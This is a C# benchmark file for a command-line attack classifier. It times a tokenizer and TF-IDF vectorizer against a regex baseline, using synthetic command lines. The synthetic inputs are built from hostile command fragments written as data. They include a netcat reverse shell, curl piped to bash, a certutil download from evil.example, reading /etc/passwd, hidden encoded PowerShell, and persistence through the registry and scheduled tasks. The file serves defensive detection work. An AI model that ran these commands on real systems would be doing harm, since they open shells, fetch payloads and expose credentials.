using System.Text.RegularExpressions;
using AttackClassifier.Kernels;
using AttackClassifier.Text;
using BenchmarkDotNet.Attributes;

namespace AttackClassifier.Benchmarks.Text;

/// <summary>
/// Command lines to measure on: by default 1,000 seeded synthetic commands of 40–80 characters (Linux and
/// Windows attacker idioms); set ATTACK_CLASSIFIER_BENCH_CSV to a CSV whose first column holds commands
/// (e.g. the study's atomic-linux.csv) to measure those instead. Every benchmark reports time per command
/// (OperationsPerInvoke), so commands/second = 1 s / Mean.
/// </summary>
internal static class BenchCommands
{
    internal const int Count = 1000;

    private static readonly string[] Heads =
    [
        "cat /etc/passwd", "curl -s http://10.0.0.5:8080/p.sh", "powershell -nop -w hidden -enc SQBFAFgA",
        "cmd.exe /c whoami /all", "nc -e /bin/sh 192.168.1.20 4444", "reg add HKLM\\Software\\Run /v x",
        "chmod +x /tmp/install.sh", "certutil -urlcache -f http://evil.example/a.exe", "echo $HOME ${PATH}",
        "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe", "find / -perm -4000 -type f", "ls -la --color=auto /var/log",
    ];

    private static readonly string[] Tails =
    [
        " | bash", " > /tmp/out.txt", " && rm -rf /tmp/x", " 2>/dev/null", " C:\\Temp\\a.exe", " -Force", " 0x1f2e",
        " /sc onlogon", " ; id; uname -a", " --include=*.php", " | grep -v grep", " $SHELL",
    ];

    internal static string[] Load()
    {
        string? csv = Environment.GetEnvironmentVariable("ATTACK_CLASSIFIER_BENCH_CSV");
        return string.IsNullOrEmpty(csv) ? Synthetic(Count, seed: 42) : FirstColumn(csv);
    }

    internal static string[] Synthetic(int count, int seed)
    {
        var rng = new Random(seed);
        var commands = new string[count];
        for (int i = 0; i < count; i++)
        {
            string c = Heads[rng.Next(Heads.Length)];
            while (c.Length < 40 + rng.Next(41)) c += Tails[rng.Next(Tails.Length)];
            commands[i] = c.Length <= 80 ? c : c[..80];
        }
        return commands;
    }

    /// <summary>The first field of each record after the header (RFC 4180 quoting: "" inside quotes, quoted newlines).</summary>
    internal static string[] FirstColumn(string path)
    {
        string text = File.ReadAllText(path);
        var fields = new List<string>();
        int i = text.IndexOf('\n') + 1;   // skip the header
        while (i < text.Length)
        {
            var field = new System.Text.StringBuilder();
            if (text[i] == '"')
            {
                for (i++; i < text.Length; i++)
                {
                    if (text[i] != '"') field.Append(text[i]);
                    else if (i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                    else { i++; break; }
                }
            }
            else while (i < text.Length && text[i] is not (',' or '\n' or '\r')) field.Append(text[i++]);
            fields.Add(field.ToString());
            int end = text.IndexOf('\n', i);
            i = end < 0 ? text.Length : end + 1;   // rest of the record
        }
        return fields.ToArray();
    }

    /// <summary>The study's pattern, as scikit-learn ran it, for the .NET Regex baselines.</summary>
    internal static readonly Regex StudyRegex = new(
        @"(?:https?://[^\s]+)|(?:\b(?:\d{1,3}\.){3}\d{1,3}\b)|(?:[A-Za-z]:\\[^\s]+)|(?:/(?:[^ \t\n\r\f\v/]+/)*[^ \t\n\r\f\v]+)|(?:--?[\w-]+(?:=[^\s]+)?)|(?:\$\{?\w+\}?)|(?:0x[0-9a-fA-F]+)|(?:[A-Za-z_]\w+)|(?:\d+)",
        RegexOptions.CultureInvariant | RegexOptions.Compiled);
}

/// <summary>Tokenizing lowercased commands: the compiled .NET Regex of the study's pattern against the scanner.</summary>
[MemoryDiagnoser]
public class TokenizeBenchmarks
{
    private string[] _lower = [];

    [GlobalSetup]
    public void Setup() => _lower = BenchCommands.Load().Select(c => c.ToLowerInvariant()).ToArray();

    [Benchmark(Baseline = true, OperationsPerInvoke = BenchCommands.Count)]
    public int RegexTokenCount()
    {
        int tokens = 0;
        for (int i = 0; i < BenchCommands.Count; i++)
            foreach (ValueMatch _ in BenchCommands.StudyRegex.EnumerateMatches(_lower[i % _lower.Length])) tokens++;
        return tokens;
    }

    [Benchmark(OperationsPerInvoke = BenchCommands.Count)]
    public int ScannerTokenCount()
    {
        int tokens = 0;
        for (int i = 0; i < BenchCommands.Count; i++)
            foreach (Range _ in CommandLineTokenizer.EnumerateTokens(_lower[i % _lower.Length])) tokens++;
        return tokens;
    }
}

/// <summary>
/// Tokenize + TF-IDF transform of one raw command (lowercasing included) into a sparse row. Baseline: the obvious
/// implementation on .NET Regex — match strings, bigram strings, dictionary lookups, sort, weight, normalise.
/// </summary>
[MemoryDiagnoser]
public class TransformBenchmarks
{
    private string[] _commands = [];
    private TfidfVectorizer _vectorizer = null!;
    private Dictionary<string, int> _vocabulary = [];
    private int[] _columns = [];
    private double[] _values = [];
    private double[] _idf = [];
    private string[] _batch = [];

    [GlobalSetup]
    public void Setup()
    {
        _commands = BenchCommands.Load();
        _batch = Enumerable.Range(0, BenchCommands.Count).Select(i => _commands[i % _commands.Length]).ToArray();
        _vectorizer = TfidfVectorizer.Fit(_commands);
        _vocabulary = new Dictionary<string, int>(_vectorizer.Vocabulary);
        _columns = new int[_vectorizer.FeatureCount];
        _values = new double[_vectorizer.FeatureCount];
        _idf = _vectorizer.Idf.ToArray();
    }

    [Benchmark(Baseline = true, OperationsPerInvoke = BenchCommands.Count)]
    public double RegexTransform()
    {
        double sum = 0;
        double[] idf = _idf;
        for (int i = 0; i < BenchCommands.Count; i++)
        {
            string[] tokens = BenchCommands.StudyRegex.Matches(_commands[i % _commands.Length].ToLowerInvariant()).Select(m => m.Value).ToArray();
            var counts = new SortedDictionary<int, int>();
            for (int t = 0; t < tokens.Length; t++)
            {
                if (_vocabulary.TryGetValue(tokens[t], out int j)) counts[j] = counts.GetValueOrDefault(j) + 1;
                if (t + 1 < tokens.Length && _vocabulary.TryGetValue(tokens[t] + " " + tokens[t + 1], out j)) counts[j] = counts.GetValueOrDefault(j) + 1;
            }
            double norm = Math.Sqrt(counts.Sum(p => p.Value * idf[p.Key] * p.Value * idf[p.Key]));
            foreach (var (j, c) in counts) sum += c * idf[j] / norm;
        }
        return sum;
    }

    [Benchmark(OperationsPerInvoke = BenchCommands.Count)]
    public double ScannerTransform()
    {
        double sum = 0;
        for (int i = 0; i < BenchCommands.Count; i++)
        {
            int nnz = _vectorizer.Transform(_commands[i % _commands.Length], _columns, _values);
            if (nnz > 0) sum += _values[0];
        }
        return sum;
    }

    [Benchmark(OperationsPerInvoke = BenchCommands.Count)]
    public CsrMatrix ScannerTransformBatch() => _vectorizer.Transform(_batch);
}

/// <summary>Fitting word (1, 2) and char_wb (2, 5) TF-IDF on the commands; time per command.</summary>
[MemoryDiagnoser]
public class FitBenchmarks
{
    private string[] _commands = [];

    [GlobalSetup]
    public void Setup() => _commands = BenchCommands.Load();

    [Benchmark(OperationsPerInvoke = BenchCommands.Count)]
    public TfidfVectorizer FitWordBigrams() => TfidfVectorizer.Fit(Take());

    [Benchmark(OperationsPerInvoke = BenchCommands.Count)]
    public TfidfVectorizer FitCharWordBoundary2To5() =>
        TfidfVectorizer.Fit(Take(), new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(2, 5) });

    private string[] Take() => Enumerable.Range(0, BenchCommands.Count).Select(i => _commands[i % _commands.Length]).ToArray();
}
